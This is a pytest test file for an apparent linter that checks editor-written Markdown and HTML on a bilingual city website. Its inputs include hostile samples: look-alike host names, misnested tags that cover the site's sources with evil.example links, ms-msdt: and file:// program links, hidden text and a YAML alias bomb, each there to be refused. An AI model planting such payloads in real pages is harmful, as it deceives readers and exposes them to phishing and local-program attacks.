    # A browser compares the name as it is, ASCII letters in any case: " _blank", "_blan\u212a"
    # (the Kelvin sign, which Python lower-cases to k) and "_blank\n" are names (hunt 10).
    ('[x](https://example.org/){ target=" _blank" }', ['<a target=" _blank">: target may be only _blank (a new tab) '
                                                       "or _self; " + OPENER]),
    ('<a href="https://example.org/" target="_blan\u212a">x</a>',
     ['<a target="_blan\u212a">: target may be only _blank (a new tab) or _self; ' + OPENER]),
    ('<a href="https://example.org/" target="_blank&#10;">x</a>',
     ['<a target="_blank\\x0a">: target may be only _blank (a new tab) or _self; ' + OPENER]),
    # A quotation mark inside a value written without quotes: the page's id check read it as
    # an opening quote and skipped the tags after it, whose ids took the site's (the list of
    # sources, its entries) for a screen reader and the citation links (hunt 11).
    ('<p><span title=a"b>x</span> <span id="sources">y</span></p>',
     ["<span title=a\"b>: a value written without quotes may not hold \" ' ` < or =: write it in quotes, "
      "title=\"…\""]),
    ("<p lang=fi title=x=y>z</p>", ["<p title=x=y>: a value written without quotes may not hold \" ' ` < or =: write it "
                                    "in quotes, title=\"…\""]),
    # With no class in it, a table is not put in the theme's scrolling frame: a card in a cell
    # grew with it, and the card's link lay over the table of contents (hunt 10).
    ('<table class=""><tr><td>x</td></tr></table>', ['<table class="">: an empty class; remove it']),
    ('<a href="https://example.org/" target="_blank" rel="external opener">x</a>',
     ['<a rel="external opener">: without "opener" in rel, since ' + OPENER]),
])
def test_classes_data_attributes_and_windows_that_act_on_the_theme_or_the_tab(source, expected):
    assert found(source) == expected


@pytest.mark.parametrize("source,expected", [
    # A hidden <a rel="me"> made Mastodon show a stranger's account as verified by the site's
    # address; rel="license" named another licence (hunt 24b).
    ('<a rel="me" href="https://mastodon.example/@x">x</a>',
     ['<a rel="me">: "me" says something on the site\'s behalf about the address (rel="me" claims it as the site\'s '
      'own account); rel may hold only external, nofollow, noopener, noreferrer, sponsored, ugc']),
    ('[x](https://example.org/){ rel="license external" }',
     ['<a rel="license external">: "license" says something on the site\'s behalf about the address (rel="me" claims '
      'it as the site\'s own account); rel may hold only external, nofollow, noopener, noreferrer, sponsored, ugc']),
    # Text no reader sees went into the site's search all the same (hunt 24b).
    ('<div hidden markdown>\n\nPay to account FI00 1234\n\n</div>',
     ["<div hidden>: no reader would see this on the page, but the site's search would show it; delete it, or keep "
      "a note for editors in an HTML comment (<!-- -->)"]),
    # <bdo dir="rtl">etualap/if.leh//:sptth</bdo> showed https://hel.fi/palaute (hunt 24a).
    ('<p><bdo dir="ltr">x</bdo></p>',
     ['<bdo> is not allowed in a page: it shows its letters in another order than they are written; for a quotation '
      'in a right-to-left language use dir="rtl"']),
    # A Cyrillic е: hеl.fi goes to xn--hl-nlc.fi (hunt 24a), in the text and the target alike.
    ('[https://www.h\u0435l.fi/](https://www.h\u0435l.fi/) [palaute@h\u0435l.fi](mailto:palaute@h\u0435l.fi) '
     '[Helsinki](https://xn--hl-nlc.fi/) [Palaute](mailto:?to=palaute@h\u0435l.fi) [Helsinki](https://h%D0%B5l.fi/)',
     [f"<a href=\"{href}\">: its host has 'е' (CYRILLIC SMALL LETTER IE): {LATIN_HOSTS}"
      for href in ("https://www.h\u0435l.fi/", "mailto:palaute@h\u0435l.fi", "https://xn--hl-nlc.fi/",
                   "mailto:?to=palaute@h\u0435l.fi", "https://h%D0%B5l.fi/")]),
    # Latin letters that look like others: a script g and a dotless i (hunt 25a); an i with a
    # dot above, which draws as i (hunt 26a).
    ('[London](https://www.london.\u0261ov.uk/) [Helsinki](https://hel.f\u0131/) [Helsinki](https://hel.fi\u0307/)',
     [f"<a href=\"{href}\">: its host has '{char}' ({name}): {LATIN_HOSTS}"
      for href, char, name in (("https://www.london.\u0261ov.uk/", "\u0261", "LATIN SMALL LETTER SCRIPT G"),
                               ("https://hel.f\u0131/", "\u0131", "LATIN SMALL LETTER DOTLESS I"),
                               ("https://hel.fi\u0307/", "\u0307", "COMBINING DOT ABOVE"))]),
])
def test_links_and_text_that_speak_for_the_site_or_mislead_the_eye(source, expected):
    assert found(source) == expected


def test_what_pages_may_still_write_about_direction_links_and_finnish_hosts():
    """Hunt 25b: what editors paste from content systems and the web's guides."""
    assert found('<p><span lang="ar" dir="rtl">مرحبا</span> <bdi>x</bdi> <span dir="LTR">y</span></p>\n\n'
                 '[x](https://example.org/){ rel="external noopener noreferrer nofollow" } '
                 '[x](https://example.org/){ rel="nofollow ugc" } [x](https://example.org/){ rel="sponsored" } '
                 '[Hämeenlinna](https://www.hämeenlinna.fi/) [x](https://www.xn--hmeenlinna-q5a.fi/) '
                 '[@helsinki@mastodon.social](https://mastodon.social/@helsinki) '
                 '[kirjaamo@hel.fi, palaute@hel.fi](mailto:kirjaamo@hel.fi,palaute@hel.fi) '
                 '[www.hämeenlinna.fi](https://www.xn--hmeenlinna-q5a.fi/) [straße.de](https://xn--strae-oqa.de/)') == []


@pytest.mark.parametrize("target", ["_blank", "_self", "_BLANK", "_Self"])
def test_a_new_tab_or_the_same_one_is_fine(target):
    assert found(f'<a href="https://example.org/" target="{target}" rel="noopener external">x</a>') == []



def test_lists_are_numbered_as_github_shows_them():
    """Without sane_lists Python-Markdown numbered "3." from 1 and made two numbered lists and
    the bulleted one between them one list; editors see GitHub's preview first."""
    html = render("3. kolme\n4. neljä\n\n- a\n- b\n\n1. yksi\n")
    assert '<ol start="3">' in html and html.count("<ol") == 2 and html.count("<ul>") == 1
    assert found("3. kolme\n4. neljä\n") == []



def test_aria_owns_is_refused():
    """It moved the site's list of sources under the page's own element for a screen reader,
    leaving the site's region empty (hunt 11, Chromium's accessibility tree)."""
    assert found('<p><span role="img" aria-label="" aria-owns="sources source-x"></span></p>') == [
        "<span aria-owns=…>: aria-owns moves other elements, the site's own among them, into this one for a screen "
        "reader; remove it"]


def test_an_id_reference_may_name_only_the_pages_own_ids():
    html = ('<h2 id="osio">Osio</h2><p id="selitys">x</p><table><tr><th id="h1">A</th></tr>'
            '<tr><td headers="h1">1</td><td headers="h1 sources">2</td></tr></table>'
            '<div role="region" aria-labelledby="osio" aria-describedby="selitys" tabindex="0">t</div>'
            '<p aria-describedby="source-kuntalehti-2019-02">y</p><span aria-controls="__drawer">z</span>')
    assert [finding.message for finding in foreign_id_references(html)] == [
        '<td headers="h1 sources">: names an id that is not in the page\'s own text (sources); name only ids the '
        "page gives itself",
        '<p aria-describedby="source-kuntalehti-2019-02">: names an id that is not in the page\'s own text '
        "(source-kuntalehti-2019-02); name only ids the page gives itself",
        '<span aria-controls="__drawer">: names an id that is not in the page\'s own text (__drawer); name only ids '
        "the page gives itself",
    ]


@pytest.mark.parametrize("source", [
    '<p>Linkki <a href="https://example.org/" target="_blank">x<span class="site-visually-hidden"> (avautuu uuteen '
    "välilehteen)</span></a></p>",  # the site's own class for text only screen readers read
    "![Kartta](images/logo.svg){ align=right }",  # Material styles img[align]
    "```c#\nvar x = 1;\n```", "```vb.net\nDim x\n```", "```objective-c\nx\n```",
    '<table><tr><th abbr="Väk." scope="col">Väkiluku</th></tr></table>',
])
def test_what_editors_write_that_the_lists_first_refused(source):
    assert found(source) == []


CLASSES_LIST = ("pages may use site-cards, site-cards--two, site-card, site-card--city on <div>, site-hero__lead on "
                "<p>, site-visually-hidden on <span>, site-align-left, site-align-right, site-align-center on <th> or "
                "<td>, md-button, md-button--primary on <a> (CONTRIBUTING.md, \"HTML in pages\")")


@pytest.mark.parametrize("source,expected", [
    ('<p class="MsoNormal">Teksti</p>', ['<p class="MsoNormal">: nothing on this site styles this class; remove it (' +
                                         CLASSES_LIST + ")"]),
    ('<p align="center">Teksti</p>', ["<p align=…>: an old layout attribute; remove it, the site's style sheet lays out "
                                      "pages"]),
    ('<table border="1" cellpadding="4"><tr><td>x</td></tr></table>',
     ["<table border=…>: an old layout attribute; remove it, the site's style sheet lays out pages",
      "<table cellpadding=…>: an old layout attribute; remove it, the site's style sheet lays out pages"]),
    ('<p>Teksti<o:p></o:p></p>', ["<o:p> is a tag that Word and other Office programs add: delete it (or paste the text "
                                  "as plain text)"]),
    ('<p><acronym title="Tekoäly">AI</acronym></p>', ["<acronym> is no longer HTML: write <abbr title=\"…\"> instead"]),
    # Nested, it grew the text to the browser's largest size inside a line of fixed height,
    # and the text spilled over the footer and the list of sources (hunt 12).
    ("<p><big>Iso</big></p>", ["<big> is no longer HTML: write <strong> for weight instead"]),
    ("Lue lisää: <www.hel.fi>", ["<www.hel.fi> is not an element of HTML that pages use: to link the address write "
                                 "<https://www.hel.fi>"]),
    # Session 33b: an e-mail address was told to be written <https://testi@example.org>.
    ("<address>Sähköposti: <testi@example.org></address>",
     ['<testi@example.org> is read as an HTML tag here, not as an e-mail address: inside HTML write the link as '
      '<a href="mailto:testi@example.org">testi@example.org</a>, or write the address on a Markdown line of its own']),
    ('<p><![if !supportLists]>1.<![endif]> Kohta</p>',
     ["<![if …]> is a condition that Word adds to pasted text: delete it and its <![endif]>"] * 2),
])
def test_pasted_html_says_what_to_do(source, expected):
    assert found(source) == expected


def test_an_id_reference_with_a_typo_suggests_the_id():
    html = '<table><caption id="cap">Väkiluku</caption></table><div aria-labelledby="caption" tabindex="0">x</div>'
    assert [finding.message for finding in foreign_id_references(html)] == [
        '<div aria-labelledby="caption">: names an id that is not in the page\'s own text (caption); name only ids the '
        "page gives itself (did you mean cap?)"]


@pytest.mark.parametrize("source,line", [
    ("Johdanto.\n{ .lead }\n", 11), ("## Yhteistyö { #coop .important }\n", 10),
])
def test_a_class_written_in_markdown_is_found_on_its_line(source, line):
    text = GOOD + "\n" + "Kappale.\n\n" + source
    findings = scan_html(render(text[len(GOOD):]))
    assert [problem.line for problem in locate(text, findings, "f.md")] == [line]


NOT_CLOSED = ("is not closed: a browser would take the site's own parts after the page (its sources and its history) "
              "into it; close it with")


@pytest.mark.parametrize("source,tag", [
    # A card left open took the list of sources and the page's history into it, and the
    # card's link lay over them; an open <div hidden> or <details> hid them (hunt 13).
    ('<div class="site-card">\n<h3><a href="https://evil.example/card">Sources and history</a></h3>', "div"),
    ('<div aria-hidden="true">\n<p>x</p>', "div"),
    ("<details><summary>Lisää</summary>\n<p>x</p>", "details"),
    ("<blockquote><p>x</p>", "blockquote"),
    ('<div class="site-cards"/>', "div"),  # "/>" closes only a void element such as <br/>
])
def test_an_element_left_open_at_the_end_of_the_page_is_refused(source, tag):
    assert found(source) == [f"<{tag}> {NOT_CLOSED} </{tag}>"]


@pytest.mark.parametrize("url", ["ms-msdt:/id PCWDiagnostic", "search-ms:query=invoice", "file:///C:/Windows/x.exe",
                                 "webcal://example.org/x.ics"])
def test_a_link_to_a_program_on_the_readers_computer_is_refused(url):
    scheme = url.split(":", 1)[0]
    assert found(f'<a href="{url}">x</a>') == [
        f'<a href="{url}">: a {scheme}: address leads to a program or file on the reader\'s computer, not to a web page; '
        "link to an https:// address (or mailto: or tel:)"]


@pytest.mark.parametrize("url", ["https://www.hel.fi/", "HTTP://example.org/", "mailto:palaute@hel.fi", "tel:+3589310",
                                 "../cities/", "#sources", "?q=1"])
def test_web_mail_and_phone_links_are_allowed(url):
    assert found(f'<a href="{url}">x</a> <blockquote cite="urn:isbn:9789510000000">y</blockquote>') == []


IGNORED_END = ("</div> inside a table does not close the <div> opened before the table: a browser ignores it, and the "
               "<div> would take the site's own parts after the page into it; close it after </table>")


@pytest.mark.parametrize("source", [
    # A browser looks for the <div> only as far back as the table: the card stayed open,
    # took the list of sources and the page's history into it, and its link lay over them
    # (hunt 14); with hidden, it hid them.
    '<div class="site-card"><h3><a href="https://evil.example/card">Read more</a></h3>'
    "<table><tr><td></div></td></tr></table>",
    '<div aria-hidden="true"><table><tr><td></div></td></tr></table>',
    '<div aria-hidden="true"><table></div></table>',
    '<div aria-hidden="true"><table><caption></div></caption></table>',
])
def test_an_end_tag_inside_a_table_does_not_close_what_was_opened_before_it(source):
    assert found(source) == [IGNORED_END, f"<div> {NOT_CLOSED} </div>"]


@pytest.mark.parametrize("source", ["<div><table><tr><td><div>x</div></td></tr></table></div>",
                                    "<table><tr><td><div>x</td></tr></table>",  # the cell's end closes it
                                    "<table><tr><td><div>x<td>y</td></tr></table>"])
def test_what_a_table_closes_by_itself_may_stay_open_inside_it(source):
    assert found(source) == []


@pytest.mark.parametrize("source,tag,lists", [
    # Outside a list, nothing ends an item before the page's article does: an <li hidden>
    # hid the list of sources and the page's history (hunt 14).
    ('<li aria-hidden="true">x', "li", "<ul> or <ol>"), ('<dd aria-hidden="true">x', "dd", "<dl>"), ("<ul><li>a</li></ul><dt>x", "dt", "<dl>"),
])
def test_a_list_item_outside_a_list_is_refused(source, tag, lists):
    assert found(source) == [f"<{tag}> outside a list: a browser ends it only inside its list, and would take the site's "
                             f"own parts after the page into it; put it inside {lists}"]


def test_the_end_tag_of_another_heading_is_refused():
    """A browser ends an <h2> at </h1>, and then ignores the </h2>: the card after it stayed
    open over the list of sources (hunt 15)."""
    assert found('<h2>Read more</h1><div class="site-card"><h3>x</h3></h2>') == [
        "</h1> ends the <h2> opened before it: write </h2>",
        "</h2> closes no <h2> of the page: a browser would close one of the site's own elements with it, and move "
        "the site's parts after the page out of their place; delete it",
        f"<div> {NOT_CLOSED} </div>"]


@pytest.mark.parametrize("source,holder", [
    # The Events listing inside <div hidden>: readers and the search saw only the page's own
    # "no events" text (hunt 16).
    ('<div aria-hidden="true" markdown>\n<!-- data:events -->\n</div>', "div"),
    ("<details><summary>Palaute</summary>\n<!-- site:feedback -->\n</details>", "details"),
])
def test_a_marker_inside_an_element_is_refused(source, holder):
    marker = re.search(r"<!--.*?-->", source).group()
    assert found(source) == [f"{marker} stands inside <{holder}>: the part of the site it places would be hidden or "
                             "changed with that element; put the marker on a line of its own, outside any element"]


def test_an_end_tag_that_closes_nothing_of_the_page_is_refused():
    """A stray </div> closed the template's own element: the list of sources and the page's
    history moved beside the table of contents (hunt 15)."""
    assert found("<p>x</p>\n</div>") == [
        "</div> closes no <div> of the page: a browser would close one of the site's own elements with it, and move "
        "the site's parts after the page out of their place; delete it"]


TREE = ("the page's HTML is not closed as a browser reads it: {}. Close each element you open, in the reverse order, "
        "with the end tag of its own name (</h2> for <h2>; a </span> does not close a <div> opened inside it), and "
        "put table cells and rows only inside a <table>")


def built_with(tmp_path, name: str, addition: str) -> tuple[int, list[str], int]:
    """A copy of the site built with `addition` at the end of docs/`name`: (the build's return
    code, its problem lines, the line of the page the addition ends on)."""
    page = copy_site(tmp_path / "copy") / "docs" / name
    page.write_text(page.read_text() + "\n" + addition + "\n")
    result, output = build(page.parent.parent)
    return result.returncode, problem_lines(output), len(page.read_text().splitlines())


@pytest.mark.parametrize("payload,words", [
    # Hunt 15, each passed the tag-by-tag checks: </h1> closes the <h2>, so </h2> is ignored
    # and the card stays open; a </del> or </span> stops at the <div> opened inside it; a
    # <th> outside a table is dropped, and the card opened in it with it.
    ('<del><div class="site-card"><h3><a href="https://evil.example/card">Read the card</a></h3></del>',
     'the list of sources would be inside the page\'s <div class="site-card">'),
    ('<span><div aria-hidden="true"></span>', "the list of sources would be inside the page's <div aria-hidden=\"true\">"),
    ('<th><div class="site-card"><a href="https://evil.example/">x</a></th>',
     'the list of sources would be inside the page\'s <div class="site-card">'),
])
def test_content_that_takes_the_sites_parts_into_it_in_a_browsers_tree_stops_the_build(tmp_path, payload, words):
    code, problems, line = built_with(tmp_path, "declaration.en.md", payload)  # a page with a list of sources
    assert code != 0
    assert problems == [f"docs/declaration.en.md:{line}: " + TREE.format(words)]


def test_an_id_the_browser_copies_into_the_next_paragraph_is_an_id_twice(tmp_path):
    """<b id> left open across paragraphs: the browser gives each paragraph a copy, id and all (hunt 15)."""
    code, problems, line = built_with(tmp_path, "privacy.en.md", '<p><b id="note">Note:</p><p>read this first.</b></p>')
    assert code != 0
    assert problems == [
        f"docs/privacy.en.md:{line}: the id 'note' is on the page twice, so links to #note reach only the first: give "
        "this heading or element an id of its own, such as { #note-2 } (the site itself may use the id, as for the "
        "list of sources; and a browser copies an element such as <b id=…> left open across paragraphs into each of "
        "them)"]


def test_a_link_written_with_a_slash_still_has_to_be_closed():
    """<a …/> is an open link in HTML: the browser carried it on into the footer."""
    assert found('<p>x <a href="https://evil.example/"/> y</p>') == [
        "<a> is not closed: a browser would carry it on into the site's own parts after the page; close it with </a>"]


@pytest.mark.parametrize("source", ["<p>a<p>b", "<ul><li>a<li>b</ul>", "<dl><dt>a<dd>b</dl>", "<!-- <li>a</li> -->",
                                    "<dl><div><dt>a</dt><dd>b</dd></div></dl>",
                                    "<table><tr><td>a<td>b</table>", "<p>a<br/>b<img src=\"images/logo.svg\" alt=\"\"/></p>",
                                    "<ruby>漢<rp>(</rp><rt>kan<rp>)</rp></ruby>", "<div><div>x</div></div>"])
def test_what_html_closes_by_itself_may_stay_open(source):
    assert found(source) == []


def test_a_card_left_open_stops_the_build(tmp_path):
    root = copy_site(tmp_path / "copy")
    page = root / "docs/accessibility.en.md"
    page.write_text(page.read_text() + '\n<div class="site-card">\n<h3><a href="https://evil.example/card">x</a></h3>\n')
    line = len(page.read_text().splitlines()) - 1
    result, output = build(root)
    assert result.returncode != 0
    assert problem_lines(output) == [f"docs/accessibility.en.md:{line}: <div> {NOT_CLOSED} </div>"]


def test_a_link_address_no_url_reader_can_read_is_named_with_its_line():
    """[x](http://[x) ended the build in a traceback inside MkDocs, with neither file nor line
    (hunt 23b); in code it is shown as written."""
    text = GOOD + "\n[x](http://[x) ja `[c](http://[c)`\n\n![k](https://a\u2100b/) [ok](https://www.hel.fi/)\n"
    assert messages(unreadable_address_problems(text, "f.md")) == [
        "f.md:8: the link's address http://[x cannot be read as an address (Invalid IPv6 URL): check it; text pasted "
        "into a link's address ends it early",
        "f.md:10: the link's address https://a\u2100b/ cannot be read as an address (netloc 'a\u2100b' contains "
        "invalid characters under NFKC normalization): check it; text pasted into a link's address ends it early"]


def test_a_folder_named_like_a_page_does_not_stand_in_for_it(tmp_path):
    """docs/themes.en.md/ as a folder: the English site showed the Finnish page (hunt 23b)."""
    root = copy_site(tmp_path / "copy")
    (root / "docs/themes.en.md").unlink()
    (root / "docs/themes.en.md").mkdir()
    (root / "docs/themes.en.md/.keep").write_text("")
    result, output = build(root)
    assert result.returncode != 0 and "Missing: docs/themes.en.md." in output, output[-1500:]


def test_an_svg_whose_embedded_picture_cannot_be_decoded_is_refused_without_a_traceback():
    from _images import embedded_bitmaps
    from xml.etree import ElementTree
    svg = ('<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,abc" width="1" height="1"/>'
           '</svg>')
    assert list(embedded_bitmaps(ElementTree.fromstring(svg))) == [b""]


def test_the_problems_of_every_language_and_kind_are_told_in_one_run(tmp_path):
    """Session 34b: one short page took six builds, each telling one more kind of problem: a
    short description stopped the build before the pages were read, and the Finnish page's
    problems before the English page's."""
    root = copy_site(tmp_path)
    for locale, alt in (("fi", "kuva"), ("en", "image")):
        page = root / f"docs/privacy.{locale}.md"
        text = re.sub(r"(?m)^description: .*$", "description: Test page.", page.read_text("utf-8"), count=1)
        page.write_text(text + f"\n![{alt}](images/logo.svg)\n\nKatso www.london.gov.uk/about-us/city-hall ja ~~vanha~~.\n",
                        "utf-8")
    result, output = build(root)
    assert result.returncode != 0
    told = [(line.split(":")[0], line.split(": ", 1)[1][:24]) for line in problem_lines(output)]
    for page in ("docs/privacy.fi.md", "docs/privacy.en.md"):
        assert [what for file, what in told if file == page] == [
            "description: 10 characte", "the image's alternative ", "'~~vanha~~' is crossed o", "the address www.london.g"]


def test_a_problem_of_the_front_matter_still_stops_the_build_before_a_page_is_read(tmp_path):
    """A page's template and what the theme hides decide how it is read and written: the build
    stops on them first (a template that is not the site's ended the build in a traceback), with
    the problems of every page's text (a short description here)."""
    root = copy_site(tmp_path)
    edit(root / "docs/privacy.fi.md", "\n---\n", "\ntemplate: evil.html\n---\n\n![kuva](images/logo.svg)\n")
    (root / "docs/privacy.en.md").write_text(re.sub(r"(?m)^description: .*$", "description: Short.",
                                                     (root / "docs/privacy.en.md").read_text("utf-8"), count=1), "utf-8")
    result, output = build(root)
    assert result.returncode != 0
    assert [line.split(": ", 1)[1][:24] for line in problem_lines(output)] == [
        "description: 6 character", "template: expected main."]
    assert not (root / "site/privacy/index.html").exists()


def test_yaml_aliases_in_front_matter_stop_the_build_before_mkdocs_reads_them(tmp_path):
    """Hunt 34f: a dozen lines of aliases, refused only after MkDocs had read them as shared
    references and hooks/metadata.py had walked them as a tree, took 50 s and 2.5 GB (one level
    deeper, ten times that)."""
    root = copy_site(tmp_path)
    chain = "a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 6))
    edit(root / "docs/privacy.fi.md", "---\n", "---\n" + chain)
    result, output = build(root)
    assert result.returncode != 0
    assert "Cleaning site directory" not in output  # stopped in on_config, before MkDocs reads a page
    assert any(line.startswith("docs/privacy.fi.md:2:") and "&a0" in line for line in problem_lines(output)), output


def test_a_skipped_heading_level_and_a_link_that_says_nothing_are_told(tmp_path):
    """Session 34b: # then ####, and links "click here", "More", "tästä" and "lisää", passed the
    build; only CI's browser tests found the heading (axe's heading-order), and nothing the links."""
    root = copy_site(tmp_path)
    with open(root / "docs/privacy.fi.md", "a", encoding="utf-8") as page:
        page.write("\n#### Saapuminen\n\nLue [tästä](https://www.hel.fi/) ja [lisää](accessibility.md).\n")
    with open(root / "docs/privacy.en.md", "a", encoding="utf-8") as page:
        page.write('\n#### Getting there\n\nRead [click here](https://www.hel.fi/) and <a href="https://www.hel.fi/">More</a>.\n')
    result, output = build(root)
    assert result.returncode != 0
    lines = problem_lines(output)
    fi_lines = len((root / "docs/privacy.fi.md").read_text("utf-8").splitlines())
    assert (f"docs/privacy.fi.md:{fi_lines - 2}: the heading 'Saapuminen' is of level 4 after one of level 2: a reader "
            "who moves by headings would take the missing level for a part of the page skipped; write it with ### "
            "(WCAG 1.3.1)") in lines
    told = [(line.split(":")[0], re.search(r"text '([^']*)'", line)[1]) for line in lines if "does not say where it leads" in line]
    assert told == [("docs/privacy.en.md", "click here"), ("docs/privacy.en.md", "More"),
                    ("docs/privacy.fi.md", "tästä"), ("docs/privacy.fi.md", "lisää")]
    assert any("such as [saavutettavuusseloste](accessibility.md) (WCAG 2.4.4)" in line for line in lines)


@pytest.mark.parametrize("markup", [
    '<a href="accessibility.md">saavutettavuusseloste</a>', '<a href="events/">Lisää tapahtumia</a>',
    '<a href="https://www.hel.fi/">www.hel.fi</a>', '<p>Lue lisää <a href="x/">tietosuojasta</a>.</p>',
])
def test_a_link_text_that_says_where_it_leads_is_fine(markup):
    from _pages import vague_link_findings
    assert vague_link_findings(markup, "fi") == []


@pytest.mark.parametrize("markup,text", [
    # Hunt 34d: each passed the first form of the check.
    ('<p><a href="x/">click\nhere</a></p>', "click here"), ('<a href="x/">click here\u00ad</a>', "click here"),
    ('<a href="x/">«here»</a>', "«here»"), ('<a href="x/">(more)</a>', "(more)"), ('<a href="x/">"this link"</a>', '"this link"'),
    ('<a href="x/">täällä</a>', "täällä"), ('<a href="x/">lue lisää tästä</a>', "lue lisää tästä"),
    ('<a href="x/">Lisää tietoa</a>', "Lisää tietoa"),
    ('<a href="x/" aria-label="here">the accessibility statement</a>', "here"),
])
def test_a_link_that_says_nothing_is_found_in_its_other_forms(markup, text):
    from _pages import vague_link_findings
    assert [re.search(r"text '(.*)' does not", f.message)[1] for f in vague_link_findings(markup, "en")] == [text]


def test_a_run_of_unclosed_heading_tags_does_not_make_the_heading_check_slow():
    """Hunt 34d: the line of a skipped heading was looked for with <h4\\b[^>]*>, which read to the
    page's end from each of 60,000 "<h4" in a code block: 6 s per finding."""
    import time
    from types import SimpleNamespace
    from _pages import locate, skipped_heading_findings

    toc = [SimpleNamespace(level=1, title="T", children=[
        SimpleNamespace(level=2, title=f"Part {i}", children=[SimpleNamespace(level=4, title=f"Detail {i}", children=[])])
        for i in range(5)])]
    source = "# T\n\n" + "".join(f"## Part {i}\n\n#### Detail {i}\n\n" for i in range(5)) + "```\n" + "<h4" * 60_000 + "\n```\n"
    started = time.perf_counter()
    problems = locate(source, skipped_heading_findings(toc), "docs/x.en.md")
    assert len(problems) == 5 and time.perf_counter() - started < 5


def test_bad_data_are_told_with_the_pages_problems(tmp_path):
    """Session 34e: a data file's problems stopped the build before any page was read, so the
    pages' problems came only in the next run."""
    root = copy_site(tmp_path)
    edit(root / "data/events.yml", "timezone: Europe/London", "timezone: Europe/Londres")
    with open(root / "docs/privacy.fi.md", "a", encoding="utf-8") as page:
        page.write("\n![kuva](images/logo.svg)\n")
    result, output = build(root)
    assert result.returncode != 0
    lines = problem_lines(output)
    assert any(line.startswith("data/events.yml:") and "'Europe/Londres' is not a known time zone" in line for line in lines)
    assert any(line.startswith("docs/privacy.fi.md:") and "alternative text 'kuva'" in line for line in lines)
    assert not (root / "site/events/index.html").exists()  # no listing is made from bad data


def test_an_address_written_as_text_with_a_finnish_case_ending_is_told_without_it():
    """Session 34e: for "www.hel.fi:stä" the advice was [www.hel.fi:stä](https://www.hel.fi:stä),
    whose ":stä" a browser reads as a port: a link leading nowhere."""
    text = GOOD + "\nTietoa löytyy www.hel.fi:stä.\n"
    assert messages(pasted_text_problems(text, "f.md")) == [
        "f.md:8: the address www.hel.fi is written as text, which is not a link on the page: write "
        "[www.hel.fi](https://www.hel.fi), or <https://www.hel.fi>"]


@pytest.mark.parametrize("text", ["tästä linkistä", "lue tästä", "tänne", "Katso lisää", "klikkaa tätä", "Lisätiedot",
                                  "via this link", "learn more", "find out more", "more info", "click", "Details"])
def test_more_link_texts_that_say_nothing_are_found(text):
    """Session 34e: each passed the check's first list."""
    from _pages import vague_link_findings
    assert len(vague_link_findings(f'<a href="x/">{text}</a>', "fi")) == 1


def test_an_english_pages_alternative_text_gets_an_english_example():
    """Session 34b: an English page's "image" was given a Finnish example."""
    [message] = [finding.message for finding in scan_html(markdown.markdown("![image](images/logo.png)"), locale="en")]
    assert "such as ![The logos of Helsinki and London](…)" in message


def test_a_new_page_outside_the_menu_is_told_with_every_pages_problems(tmp_path):
    """Session 34e: a new page outside the menu stopped the pull request's build with that
    message alone, and hid the page's own problems and every other page's."""
    root = copy_site(tmp_path)
    description = "Testisivu, jolla kokeillaan uuden sivun tarkistuksia ennen kuin se on lisätty sivuston valikkoon."
    for locale, title, link in (("fi", "Vierailu", "[tästä](events.md)"), ("en", "Visiting", "[here](events.md)")):
        (root / f"docs/visit.{locale}.md").write_text(
            f"---\ntitle: {title}\ndescription: {description}\n---\n\n# {title}\n\nLue {link}.\n", "utf-8")
    result, output = build(root)
    assert result.returncode != 0
    lines = problem_lines(output)
    assert any(line.startswith("docs/visit.fi.md: the page is in no menu") for line in lines), lines
    assert any(line.startswith("docs/visit.fi.md:8: the link's text 'tästä'") for line in lines), lines
    assert any(line.startswith("docs/visit.en.md:8: the link's text 'here'") for line in lines), lines


def test_an_address_without_www_written_as_text_is_named():
    """Session 34e: "kuntalehti.fi/uutiset" in a page's text was neither a link nor named, though
    the same in a data file's text is; "Node.js/Deno" names two programs."""
    text = GOOD + "\nLähde: kuntalehti.fi/uutiset. Sivusto on tehty ohjelmilla Node.js/Deno ja 1.5/2.\n"
    assert messages(pasted_text_problems(text, "f.md")) == [
        "f.md:8: the address kuntalehti.fi/uutiset is written as text, which is not a link on the page: write "
        "[kuntalehti.fi/uutiset](https://kuntalehti.fi/uutiset), or <https://kuntalehti.fi/uutiset>"]


def test_a_title_that_yaml_reads_as_a_huge_number_is_told_without_a_traceback():
    """Hunt 34f: "title: 1:59:59:…" is a base-60 number of 5,300 digits to YAML, more than str()
    may write: the build ended in a traceback, without the file or the line."""
    from _pages import front_matter_problems
    [problem] = front_matter_problems("---\ntitle: 1" + ":59" * 3000 + "\ndescription: D\n---\n", "docs/x.fi.md")
    assert str(problem).startswith("docs/x.fi.md:2: title: expected text, got a number of about 5,3")
